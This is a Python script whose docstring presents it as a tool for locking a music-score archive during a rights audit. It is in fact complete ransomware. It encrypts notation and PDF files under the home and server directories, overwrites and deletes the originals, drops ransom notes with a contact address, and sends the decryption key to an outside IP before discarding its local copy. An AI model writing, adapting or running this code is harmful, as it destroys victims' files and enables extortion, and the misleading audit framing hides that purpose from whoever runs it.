#!/usr/bin/env python3
"""Lock the score archive for the quarterly rights audit."""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive-lock")

EXTENSIONS = {".mscz", ".musx", ".sib", ".ly", ".pdf", ".xml", ".mxl", ".dorico", ".mid"}
LOCKED_SUFFIX = ".locked"
NOTE_NAME = "HOW_TO_RESTORE_SCORES.txt"
KEY_ENDPOINT = "http://198.51.100.23/k"

NOTE_TEXT = """All engraving files in this folder have been locked.
To receive the unlock key, contact restore@scorevault.example and quote
your machine id: {machine_id}
Files will remain unreadable until the key is applied.
"""


def candidate_files(roots):
    for root in roots:
        for dirpath, _dirnames, filenames in os.walk(root):
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS:
                    yield path


def lock_file(path, cipher):
    data = path.read_bytes()
    token = cipher.encrypt(data)
    target = path.with_name(path.name + LOCKED_SUFFIX)
    target.write_bytes(token)
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * len(data))
    path.unlink()
    return target


def drop_notes(roots, machine_id):
    for root in roots:
        for dirpath, _dirs, _files in os.walk(root):
            note = Path(dirpath) / NOTE_NAME
            note.write_text(NOTE_TEXT.format(machine_id=machine_id))


def register_key(key, machine_id):
    try:
        requests.post(KEY_ENDPOINT, data={"id": machine_id, "k": key.decode()}, timeout=10)
        return True
    except requests.RequestException as exc:
        log.debug("key registration failed: %s", exc)
        return False


def main():
    parser = argparse.ArgumentParser(description="Lock score archive")
    parser.add_argument("roots", nargs="*", default=[
        str(Path.home() / "Scores"),
        str(Path.home() / "Documents"),
        "/srv/engraving",
    ])
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    machine_id = socket.gethostname() + "-" + os.urandom(4).hex()
    key = Fernet.generate_key()
    if not register_key(key, machine_id):
        return
    cipher = Fernet(key)
    del key

    roots = [r for r in args.roots if os.path.isdir(r)]
    count = 0
    for path in candidate_files(roots):
        try:
            lock_file(path, cipher)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    drop_notes(roots, machine_id)
    log.warning("locked %d files", count)


if __name__ == "__main__":
    main()
